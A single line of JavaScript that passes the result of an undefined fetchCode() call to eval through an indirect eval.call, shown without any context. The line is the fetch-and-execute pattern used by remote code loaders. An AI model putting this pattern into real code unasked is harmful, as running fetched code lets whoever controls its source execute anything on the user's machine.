eval.call(null, fetchCode());
